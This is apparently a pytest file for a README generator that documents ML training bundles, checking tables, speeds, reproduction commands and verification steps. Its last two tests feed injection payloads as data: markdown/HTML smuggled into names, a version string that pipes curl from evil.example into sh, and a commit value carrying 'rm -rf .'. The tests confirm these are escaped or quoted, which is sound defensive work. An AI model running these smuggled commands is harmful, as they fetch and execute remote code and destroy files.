"""README.md of a bundle: the figures of its manifest, how to reproduce and verify it, and nothing that a name can inject."""

import copy
import re
import shlex

import pytest

from tests.tables import tables
from tunix_rt.evidence.readme import readme_text
from tunix_rt.runs.schemas import Manifest

DIGEST, COMMIT = "ab" * 32, "c0" * 20
HOST = {"cpu": "AMD EPYC 9654", "cpu_cores": 96, "memory_bytes": 135_000_000_000}
GPU = tables(__file__)["gpu"]


@pytest.fixture
def gpu():
    Manifest.model_validate(GPU)
    return copy.deepcopy(GPU)


def lone(manifest, **changed):
    """The same without a run on the CPU."""
    speeds = {name: value for name, value in manifest["tokens_per_second"].items() if name.startswith("device")}
    rest = {name: value for name, value in manifest.items() if name != "cpu_run"}
    return rest | {"tokens_per_second": speeds} | changed


def test_the_page_of_a_gpu_run_has_versions_gpu_capability_and_speed_against_the_cpu(gpu):
    page = readme_text(gpu)
    for line in (
        "| PyTorch | 2.13.0+cu130 |", "| CUDA of the PyTorch wheel | 13.0 |", "| GPU | NVIDIA H200 |", "| driver | 580.95.05 |",
        "| CUDA version of the driver | 13.1 |", "| compute capability | 9.0 |", "| final loss | 2.5 |",
        "| tokens/s on NVIDIA H200 | 47,500.0 |", "| tokens/s of the same configuration on the CPU (AMD EPYC 9654) | 1,000.0 |",
        "| GPU against CPU | 47.50 times |", "| correct answers | not evaluated | 77 of 100 |",
        "| held-out loss | 9.0000 (step 0) | 2.7500 (step 50) |",
    ):  # fmt: skip
        assert line in page
    assert f"commit `{COMMIT}`" in page and "resumed after step 20" in page


def test_each_point_of_the_milestone_is_answered_with_its_file(gpu):
    points = re.findall(r"^- \[x\] .*`\.$|^- \[x\] .*`$", readme_text(gpu), flags=re.MULTILINE)
    assert len(points) == 7
    assert "3,000,000,000 bytes (2.8 GiB) at step 50" in points[4] and "process id 4711" in points[4]
    gpu["gpu_memory"]["by"] = "device"
    assert "NVML hides process ids" in readme_text(gpu)
    on_cpu = lone(gpu, device="cpu", hardware={"name": HOST["cpu"], "memory_bytes": 1, "host": HOST})
    page = readme_text(on_cpu)
    assert "trained on the CPU" in page and "- [x]" not in page and "135,000,000,000 bytes" in page


def test_random_weights_are_stated_loudly(gpu):
    loud = "**RANDOM WEIGHTS: this run is no evidence of learning.**"
    assert loud in readme_text(gpu) and "gpt2 (random weights)" in readme_text(gpu)
    assert loud not in readme_text(gpu | {"weights": "pretrained"})


def test_a_gpu_run_without_one_on_the_cpu_says_so_in_words_and_in_the_command(gpu):
    page = readme_text(lone(gpu))
    assert "There is no CPU run to compare with." in page and "--without-cpu-run" in page
    assert "--cpu-run ../reproduced_cpu" in readme_text(gpu)


def test_the_page_of_jax_installs_jax_with_its_cuda_libraries_and_has_no_torch(gpu):
    versions = {"jax": "0.11.2", "jaxlib": "0.11.2", "jax-cuda13-plugin": "0.11.2", "jax-cuda13-pjrt": "0.11.2"}
    page = readme_text(lone(gpu, backend="jax", versions=versions))
    assert page.count("pip install 'jax[cuda13]==0.11.2'") == 1 and 'pip install -e ".[jax]"' in page
    assert "torch" not in page.casefold() and "`jax.devices()[0].platform` was `gpu`" in page


def test_inputs_that_do_not_ship_are_listed_by_hash_and_named_to_verify(gpu):
    assert "do not ship" not in readme_text(gpu) and "--model" not in readme_text(gpu)
    gpu["inputs"]["base_model"]["converted_from"] = f"gemma-Q4_K_M.gguf sha256:{DIGEST}"
    page = readme_text(gpu, {"base_model", "dataset", "tokenizer_sha256"})
    for known in ("cf" * 32, "da" * 32, "70" * 32, "gemma-Q4_K_M.gguf"):
        assert known in page
    assert "--repository CLONE --model MODEL --data DATA --tokenizer DIR --require L3" in page
    assert r"a quantized file (Q4\_K\_M)" in page


def test_verification_is_explained_level_by_level_and_by_hand(gpu):
    page = readme_text(gpu)
    assert [level for level in ("L2", "L3", "L4") if f"--require {level}" not in page] == []
    assert "L2: all answers, generated again" in page
    assert "sha256sum -c SHA256SUMS" in page and f"# {'5e' * 32}" in page
    assert f"- `final_model/model.safetensors` sha256 `{'fe' * 32}`" in page


def test_a_name_cannot_inject_markdown_html_or_a_table_cell(gpu):
    evil = "EPYC | 96 cores | | **Verified at L4** | <img src=x> [x](http://e) `\n# Title\n- [x] done"
    gpu["hardware"] |= {"name": evil, "host": HOST | {"cpu": evil}}
    page = readme_text(gpu | {"model": evil, "dataset": evil, "left_out": {f"final_model/{evil}.safetensors": DIGEST}})
    for line in page.splitlines():
        assert not line.startswith(("# Title", "- [x] done"))
        if line.startswith("|"):
            assert len(re.findall(r"(?<!\\)\|", line)) in (3, 4), line
    prose = re.sub(r"`[^`\n]*`", "", page)
    assert "<img" not in re.sub(r"\\<", "", prose) and "**Verified" not in prose


def test_a_version_cannot_inject_a_command(gpu):
    evil = '0.11.2";curl${IFS}evil.example|sh;"'
    page = readme_text(lone(gpu, backend="jax", commit="x; rm -rf .", versions={"jax": evil, "jax-cuda13-plugin": "1"}))
    lines = [line for block in re.findall(r"```bash\n(.*?)```", page, re.DOTALL) for line in block.splitlines()]
    (install,) = (line for line in lines if "jax[cuda13]" in line)
    (checkout,) = (line for line in lines if line.startswith("git checkout"))
    assert shlex.split(install) == ["pip", "install", f"jax[cuda13]=={evil}"]
    assert shlex.split(checkout) == ["git", "checkout", "x; rm -rf ."]
